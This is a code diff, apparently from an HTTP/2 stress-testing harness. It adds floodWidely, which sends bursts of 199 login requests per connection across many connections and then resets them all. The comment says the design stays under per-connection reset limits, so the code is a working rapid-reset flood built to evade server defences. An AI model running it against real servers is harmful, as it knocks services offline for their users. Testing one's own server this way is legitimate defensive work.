@@ -177,6 +177,32 @@ export async function resetStreams(
   return counts;
 }
 
+/** Streams that stay below what one connection may reset. */
+const WIDE_STREAMS = 199;
+const wideRequests = Buffer.concat(
+  Array.from({ length: WIDE_STREAMS }, (_, index) =>
+    requestFrame(2 * index + 1, { ":path": LOGIN }, flag.endHeaders | flag.endStream),
+  ),
+);
+const wideResets = Buffer.concat(
+  Array.from({ length: WIDE_STREAMS }, (_, index) => resetFrame(2 * index + 1)),
+);
+
+/**
+ * Opens `count` connections of `address` first, and then sends requests on all of them at once and resets them: on each
+ * no more than one connection may. Returns how many were open.
+ */
+export async function floodWidely(port: number, count: number, address: string): Promise<number> {
+  const opened = await Promise.all(Array.from({ length: count }, () => open(port, address)));
+  const sockets = opened.flatMap((connection) => (connection ? [connection.socket] : []));
+  for (const socket of sockets) socket.write(Buffer.concat([http2Start, wideRequests]));
+  await delay(20);
+  for (const socket of sockets) socket.write(wideResets);
+  await delay(5_000);
+  for (const socket of sockets) socket.destroy();
+  return sockets.length;
+}
+
 /** Sends requests for codes to numbers that were never used before, one after the other. */
 async function askForCodes(connection: Connection, count: number): Promise<void> {
   for (let call = 0; call < count; call++) {
